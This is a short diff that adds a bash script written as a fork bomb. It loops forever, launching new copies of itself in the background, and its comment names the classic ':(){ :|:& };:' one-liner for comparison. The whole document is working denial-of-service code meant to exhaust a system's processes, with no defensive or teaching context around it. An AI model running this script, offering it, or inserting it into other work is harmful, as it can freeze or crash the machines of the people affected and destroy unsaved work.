@@ -1,0 +1,5 @@
+# Every copy starts copies of itself, without end (the one-line :(){ :|:& };: returns at once, and
+# its first shell with it).
+while :; do
+    "$BASH" "$0" &
+done
